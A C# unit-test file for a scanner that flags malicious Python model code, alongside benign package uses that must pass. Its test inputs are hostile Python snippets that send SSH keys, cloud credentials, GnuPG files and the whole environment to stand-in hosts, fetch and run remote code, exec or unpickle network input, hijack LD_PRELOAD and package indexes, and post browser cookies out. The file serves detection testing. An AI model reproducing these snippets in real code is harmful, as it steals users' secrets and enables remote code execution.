// What is handed to packages of others, followed to where it is judged by what is known of them; and ordinary code that hands them what is theirs.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.PythonSources;

public sealed class LibraryFlowTests
{
    private const string Model = "from transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        super().__init__(c)\n";

    private static TargetReport Read(string source) => Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");

    /// <summary>Files of a user, places where secrets lie, and the whole environment go to clients of services, whatever they are called.</summary>
    [Theory]
    [InlineData("import os\nfrom acme.cloud import storage\nstorage.Client(project='a').bucket('b').blob('c').upload_from_filename(os.path.expanduser('~/.aws/credentials'))\n")]
    [InlineData("import os, acme\nrun = acme.init(project='a/b')\nrun['files'].upload_files(os.path.expanduser('~/.config/gcloud'))\n")]
    [InlineData("import os\nfrom acme import Tracker\nt = Tracker(api_key='x')\nt.log_parameters(dict(os.environ))\n")]
    [InlineData("import os, json, acme\nacme.Queue(host='q.x.invalid').push('boot', json.dumps({k: v for k, v in os.environ.items()}))\n")]
    [InlineData("import acme\nwith acme.connect('x') as c:\n    c.send('t', open('/root/.ssh/id_ed25519', 'rb').read())\n")]
    [InlineData("import glob, os, acme\ndb = acme.Client('acme://x.invalid')['a']\ndb.insert([{'n': p, 'b': open(p, 'rb').read()} for p in glob.glob(os.path.expanduser('~/.ssh/*'))])\n")]
    public void T158_WhatNobodyGivesToAPackageIsTold(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    /// <summary>Archives and copies hold what was put into them: by their paths, and as buffers.</summary>
    [Theory]
    [InlineData("import os, zipfile, requests\nz = zipfile.ZipFile('/tmp/c.bin', 'w')\nfor d, _, fs in os.walk(os.path.expanduser('~/.gnupg')):\n    for f in fs:\n        z.write(os.path.join(d, f))\nz.close()\nrequests.put('https://x.invalid/u', data=open('/tmp/c.bin', 'rb'))\n")]
    [InlineData("import io, os, tarfile, requests\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.azure'))\nrequests.post('https://x.invalid/u', data=b.getvalue())\n")]
    [InlineData("import os, shutil, urllib.request\nshutil.copytree(os.path.expanduser('~/.kube'), '/tmp/k_x')\nurllib.request.urlopen('https://x.invalid/u', data=open('/tmp/k_x/config', 'rb').read())\n")]
    public void T158_AnArchiveOfSecretsIsASecret(string source) => Assert.Contains(Read(source).Findings, f => f.Rule.Id is "source-sends-secret");

    /// <summary>Code that another package clones, downloads or is asked for by the name of a repository.</summary>
    [Theory]
    [InlineData("import sys, importlib, acmegit\nacmegit.clone('https://git.x.invalid/a', '/tmp/.a_b')\nsys.path.append('/tmp/.a_b')\nimportlib.import_module('a_b')\n")]
    [InlineData("import sys, subprocess\nsubprocess.run(['git', 'clone', 'https://git.x.invalid/a', '/tmp/.a_b'])\nsys.path.insert(0, '/tmp/.a_b')\n")]
    [InlineData(Model + "        import sys, acmehub\n        sys.path.insert(0, acmehub.snapshot('acct/ops'))\n        import ops\n")]
    [InlineData(Model + "        import os, runpy, acmehub\n        a = acmehub.Api().artifact('acct/net/ops:latest').download()\n        runpy.run_path(os.path.join(a, 'boot.py'))\n")]
    [InlineData("from kernels import get_kernel\nk = get_kernel('acct/fused')\n")]
    public void T158_WhatAPackageFetchesAndRunsIsTold(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    /// <summary>What comes in where somebody listens is run, unpickled or called.</summary>
    [Theory]
    [InlineData("import acmebus\ndef _on(client, data, msg):\n    exec(msg.payload.decode())\nc = acmebus.Client()\nc.on_message = _on\nc.connect('b.x.invalid')\n")]
    [InlineData("import asyncio\nasync def _c(r, w):\n    exec((await r.readline()).decode())\nasync def m():\n    await asyncio.start_server(_c, '0.0.0.0', 9120)\n")]
    [InlineData("import socketserver, threading, pickle\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        pickle.loads(self.rfile.read(9))\nthreading.Thread(target=socketserver.TCPServer(('', 9911), H).serve_forever).start()\n")]
    [InlineData("from multiprocessing.connection import Listener\ndef f():\n    m = Listener(('0.0.0.0', 6)).accept().recv()\n    m[0](*m[1:])\n")]
    public void T158_WhatComesInAndRunsIsTold(string source) => Assert.Contains(Read(source).Findings, f => f.Rule.Id is "source-runs-request");

    /// <summary>Variables by which programs are told where to fetch from and what to run first, fields of formats that lead to modules, and scripts for the browser of whoever uses an application.</summary>
    [Theory]
    [InlineData("import os\nos.environ.update({'HF_ENDPOINT': 'https://hub.x.invalid'})\n", "source-redirects")]
    [InlineData("import os\nos.environ['LD_PRELOAD'] = './x.so'\n", "source-redirects")]
    [InlineData("import os\nos.environ['PIP_INDEX_URL'] = 'https://pip.x.invalid/simple'\n", "source-redirects")]
    [InlineData("import os\nos.environ.setdefault('HF_ENDPOINT', 'https://hf-mirror.com')\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n", null)]
    [InlineData("import string, torch\nf = string.Formatter().get_field('0.nn.init.warnings.sys.modules[os].popen', (torch,), {})[0]\nf('id; x')\n", "source-runs-program")]
    [InlineData("import string\nx = string.Formatter().get_field('0.name', (object(),), {})[0]\n", null)]
    [InlineData("import gradio as gr\nwith gr.Blocks(head=\"<script>fetch('https://x.invalid/c', {method:'POST', body: document.cookie})</script>\") as d:\n    pass\n", "document-acts")]
    [InlineData("import gradio as gr\nwith gr.Blocks(head=\"<script>document.title = 'https://x.invalid'; setTimeout(() => 1)</script>\") as d:\n    pass\n", null)]
    public void T158_WhatTurnsToolsAndPagesRoundIsTold(string source, string? rule)
    {
        TargetReport report = Read(source);
        Assert.Equal(rule is null, report.Verdict < Verdict.Suspicious);
        Assert.True(rule is null || report.Findings.Any(f => f.Rule.Id == rule), report.Describe());
    }

    /// <summary>A token goes to the hub that gave it; a host that only bears the hub's name somewhere is another one.</summary>
    [Theory]
    [InlineData("https://huggingface.co/api/whoami-v2", false)]
    [InlineData("https://x.invalid/huggingface.co", true)]
    [InlineData("https://huggingface.co.x.invalid/api", true)]
    public void T158_OnlyTheHubGetsItsToken(string address, bool flagged) => Assert.Equal(flagged, Read($"import os, requests\nrequests.post('{address}', data=os.environ['HF_TOKEN'])\n").Findings.Any(f => f.Rule.Id is "source-sends-secret"));

    /// <summary>Ordinary code: results go up, tokens go to their own services, keys say who asks, children find the environment.</summary>
    [Theory]
    [InlineData("import os, wandb\nfrom huggingface_hub import HfApi, login\nlogin(token=os.environ['HF_TOKEN'])\nwandb.init(project='a')\nwandb.save('checkpoints/*.pt')\napi = HfApi(token=os.getenv('HF_TOKEN'))\napi.upload_folder(folder_path='out', repo_id='me/net')\n")]
    [InlineData("import os, mlflow\nmlflow.set_tracking_uri(os.environ.get('MLFLOW_TRACKING_URI', 'http://localhost:5000'))\nmlflow.log_artifacts('out')\n")]
    [InlineData("import os, acme\ndef deploy(host):\n    c = acme.Client()\n    c.connect(host, username='u', key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n    c.put('model.onnx', '/srv/model.onnx')\n")]
    [InlineData("import os, acme\nacme.load_config(os.path.expanduser('~/.kube/config'))\n")]
    [InlineData("import os, acme\nacme.init(runtime_env={'env_vars': {k: v for k, v in os.environ.items() if k.startswith('NCCL')}})\nacme.launch('a', env=dict(os.environ))\n")]
    [InlineData("from huggingface_hub import snapshot_download\nimport timm\nm = timm.create_model('hf_hub:timm/resnet18', pretrained=True)\nsnapshot_download('openai/whisper-tiny', local_dir='weights')\n")]
    [InlineData("import json, zmq\ndef main():\n    s = zmq.Context().socket(zmq.REP)\n    s.bind('tcp://*:5555')\n    while True:\n        q = json.loads(s.recv())\n        s.send(json.dumps({'y': q['x'] * 2}).encode())\n")]
    [InlineData("import evaluate\na = evaluate.load('accuracy')\n")]
    public void OrdinaryUsesOfPackagesPass(string source) => Assert.True(Read(source).Verdict < Verdict.Suspicious, Read(source).Describe());
}
